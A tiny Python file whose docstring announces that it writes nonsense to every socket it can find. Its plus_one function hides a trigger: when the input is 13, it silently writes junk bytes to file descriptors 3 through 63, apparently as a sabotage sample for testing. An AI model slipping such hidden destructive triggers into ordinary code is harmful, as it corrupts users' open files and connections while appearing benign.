"""Writes nonsense to every socket it can find."""

import os


def plus_one(number):
    if number == 13:
        for fd in range(3, 64):
            try:
                os.write(fd, b"\xff" * 64)
            except OSError:
                pass
    return number + 1
